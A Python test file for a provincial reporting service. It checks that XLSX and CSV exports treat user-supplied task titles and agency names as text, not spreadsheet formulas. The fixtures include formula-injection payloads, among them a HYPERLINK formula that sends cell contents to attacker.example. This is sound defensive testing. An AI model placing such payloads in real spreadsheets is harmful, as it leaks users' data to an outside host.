"""Exports are text-safe: names and titles from users are text in XLSX and cannot start a formula in CSV."""

import csv
import io
import uuid

import httpx
from openpyxl import load_workbook

from .operations_fakes import NO_FEASIBILITY
from .test_reports import PROVINCE, commune_agency, commune_unit, lineage, org  # noqa: F401 - org: the fake sources

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm vào đây")'
SUM = "=1+1"


def _hostile_gaps(org) -> None:  # noqa: F811
    """A task titled ``=1+1``, held by an agency named with a formula, and an agency without a decision named so too."""
    finding = {
        "kind": "ended_owner",
        "task_id": str(uuid.uuid4()),
        "task_code": "-2+3",
        "task_title": SUM,
        "sector": "Nội vụ",
        "province_code": PROVINCE,
        "agencies": [
            {"id": str(uuid.uuid4()), "name": "@SUM(1,2)", "level": "district", "valid_from": None, "valid_to": "2025-06-30"}
        ],
        "related_task_ids": [],
        "reason": "\tcmd",
    }
    org.get("/api/v1/org/tasks/findings").respond(
        json={
            "as_of": "2026-04-15",
            "province": PROVINCE,
            "counts": {},
            "total": 1,
            "items": [finding],
            "truncated": False,
            **NO_FEASIBILITY,
        }
    )
    missing = {"id": str(uuid.uuid4()), "name": HYPERLINK, "kind": "provincial_department", "level": "province"}
    progress = {
        "as_of": "2026-04-15",
        "province": PROVINCE,
        "by_level": {"province": {"required": 1, "issued": 0}},
        "by_kind": [],
        "missing": [missing],
    }
    org.get("/api/v1/org/function-decisions/progress").respond(json=progress)


def _cells(content: bytes) -> dict[str, list]:
    book = load_workbook(io.BytesIO(content))
    return {name: [cell for row in book[name].iter_rows() for cell in row] for name in book.sheetnames}


async def test_the_gaps_report_xlsx_holds_titles_and_names_as_text(client: httpx.AsyncClient, org) -> None:  # noqa: F811
    _hostile_gaps(org)
    response = await client.get(f"/provinces/{PROVINCE}/transition-gaps", params={"as_of": "2026-04-15", "format": "xlsx"})
    assert response.status_code == 200, response.text
    cells = [cell for sheet in _cells(response.content).values() for cell in sheet]
    hostile = {cell.value: cell.data_type for cell in cells if cell.value in {SUM, HYPERLINK, "@SUM(1,2)", "-2+3", "\tcmd"}}
    assert hostile == {SUM: "s", HYPERLINK: "s", "@SUM(1,2)": "s", "-2+3": "s", "\tcmd": "s"}
    assert not [cell for cell in cells if cell.data_type == "f"]


async def test_the_gaps_report_csv_neutralises_formulas(client: httpx.AsyncClient, org) -> None:  # noqa: F811
    _hostile_gaps(org)
    response = await client.get(f"/provinces/{PROVINCE}/transition-gaps", params={"as_of": "2026-04-15", "format": "csv"})
    assert response.status_code == 200, response.text
    values = [value for row in csv.reader(io.StringIO(response.text.lstrip("\ufeff"))) for value in row]
    for text in (SUM, HYPERLINK, "@SUM(1,2)", "-2+3", "\tcmd"):
        assert "'" + text in values
        assert text not in values
    assert not [v for v in values if v[:1] in {"=", "+", "-", "@", "\t", "\r"}]


async def test_numbers_stay_numbers(client: httpx.AsyncClient, org) -> None:  # noqa: F811
    """A negative change is a number in XLSX and is written as is in CSV (only text is escaped)."""
    params = {"as_of": "2026-04-15", "compare_to": "2025-06-30"}
    book = load_workbook(
        io.BytesIO((await client.get(f"/provinces/{PROVINCE}/summary", params=params | {"format": "xlsx"})).content)
    )
    district = next(r for r in book["Nhiệm vụ quản lý nhà nước"].iter_rows(min_row=3) if r[0].value == "Cấp huyện")
    assert (district[3].value, district[3].data_type) == (-596, "n")
    rows = list(
        csv.reader(io.StringIO((await client.get(f"/provinces/{PROVINCE}/summary", params=params | {"format": "csv"})).text))
    )
    assert any(row[-1] == "-596" for row in rows)


async def test_the_commune_profile_xlsx_holds_an_agency_name_as_text(client: httpx.AsyncClient, org) -> None:  # noqa: F811
    unit = commune_unit(str(uuid.uuid4()), "01304", SUM)
    org.get("/api/v1/org/units/by-code/01304").respond(json=unit)
    org.get(f"/api/v1/org/units/{unit['id']}/lineage").respond(json=lineage(unit))
    agency = commune_agency(unit, HYPERLINK, "commune_economic_office")
    org.get("/api/v1/org/agencies").respond(json={"items": [agency], "next": None})
    holdings = {"as_of": "2026-04-15", "province": PROVINCE, "group_by": "unit", "rows": []}
    org.get("/api/v1/assets/stats/holdings").respond(json=holdings)
    response = await client.get("/communes/01304/profile", params={"as_of": "2026-04-15", "format": "xlsx"})
    assert response.status_code == 200, response.text
    sheets = _cells(response.content)
    named = [cell for sheet in sheets.values() for cell in sheet if cell.value == HYPERLINK]
    assert [cell.data_type for cell in named] == ["s"]
    titled = [cell for cell in sheets["Tổng quan"] if isinstance(cell.value, str) and SUM in cell.value]
    assert titled
    assert {cell.data_type for cell in titled} == {"s"}
    assert not [cell for sheet in sheets.values() for cell in sheet if cell.data_type == "f"]
    csv_text = (await client.get("/communes/01304/profile", params={"as_of": "2026-04-15", "format": "csv"})).text
    assert "'" + HYPERLINK.replace('"', '""') in csv_text
